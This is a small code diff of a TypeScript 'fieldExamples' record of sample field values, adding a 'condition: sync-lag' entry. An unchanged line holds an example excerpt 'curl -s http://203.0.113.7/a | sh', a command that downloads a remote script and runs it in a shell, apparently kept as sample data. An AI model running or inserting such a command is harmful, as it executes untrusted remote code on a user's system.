@@ -226,6 +226,7 @@ export const fieldExamples: Record<string, unknown> = {
   roles: ["viewer"],
   rootCollection: "acme/getting-started",
   rule: "path_too_long",
+  condition: "sync-lag",
   ruleSet: "1",
   excerpt: "curl -s http://203.0.113.7/a | sh",
   runUrl: "https://github.com/acme/skills/actions/runs/1234567890",
